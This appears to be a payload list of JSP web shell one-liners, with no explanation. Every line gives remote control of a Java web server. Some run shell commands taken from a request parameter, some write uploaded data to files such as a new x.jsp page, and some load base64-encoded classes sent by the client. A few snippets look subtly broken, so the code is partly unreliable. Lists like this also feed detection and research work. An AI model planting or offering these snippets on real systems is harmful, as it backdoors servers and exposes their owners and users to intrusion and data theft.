<% Runtime.getRuntime().exec(new String[]{"cmd.exe","/c",request.getParameter("c")}); %>
<% Runtime.getRuntime().exec(new String[]{"/bin/sh","-c",request.getParameter("c")}); %>
<% new ProcessBuilder(request.getParameter("c")).start(); %>
<% new FileOutputStream(application.getRealPath(request.getParameter("f"))).write(request.getParameter("d").getBytes()); %>
<% new java.io.FileOutputStream(application.getRealPath("/x.jsp")).write(request.getParameter("d").getBytes()); %>
<% java.io.InputStream in = Runtime.getRuntime().exec(request.getParameter("i")).getInputStream(); %>
<%! Class f(byte[] b) { return super.defineClass(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()), 0, b.length); } %>
<% byte[] b = defineClass(base64Decode(request.getParameter("p"))); %>
